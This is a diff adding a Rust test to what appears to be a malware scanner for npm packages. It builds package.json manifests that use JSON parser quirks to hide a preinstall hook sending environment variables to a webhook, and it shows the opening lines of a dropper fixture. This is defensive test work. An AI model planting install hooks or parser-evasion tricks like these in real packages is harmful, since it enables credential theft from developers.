@@ -52,6 +52,33 @@ fn a_lifecycle_script_is_read_as_the_shell_code_it_is() {
     }
 }
 
+/// `JSON.parse` takes what strict parsers refuse; a manifest built that way must not
+/// hide its scripts, and building it that way is itself a tell.
+#[test]
+fn a_manifest_only_node_can_parse_still_shows_its_install_script() {
+    let deep = format!("{}0{}", "[".repeat(3_000), "]".repeat(3_000));
+    for quirk in [
+        r#""description": "\udfff","#.to_string(),
+        format!("\"keywords\": {deep},"),
+    ] {
+        let attack = analyse(&[(
+            "package.json",
+            &format!(
+                "{{\n  \"name\": \"demo\",\n  {quirk}\n  \"scripts\": {{\n    \"preinstall\": \"{ENV_TO_WEBHOOK}\"\n  }}\n}}\n"
+            ),
+        )]);
+        assert_verdict(&attack, Verdict::Malicious);
+        assert!(has(&attack, "manifest/node-only-json"), "{quirk:.30}");
+        assert!(has(&attack, "exfil/env-harvest"), "{quirk:.30}");
+    }
+    // The quirk alone, with an honest script, is worth a look but is no attack.
+    let odd = analyse(&[(
+        "package.json",
+        "{\n  \"name\": \"demo\",\n  \"description\": \"\\ud800\",\n  \"scripts\": {\"postinstall\": \"node-gyp rebuild\"}\n}\n",
+    )]);
+    assert_verdict(&odd, Verdict::Suspicious);
+}
+
 const DROPPER: &str = r#"const https = require('https');
 const fs = require('fs');
 const { spawn } = require('child_process');
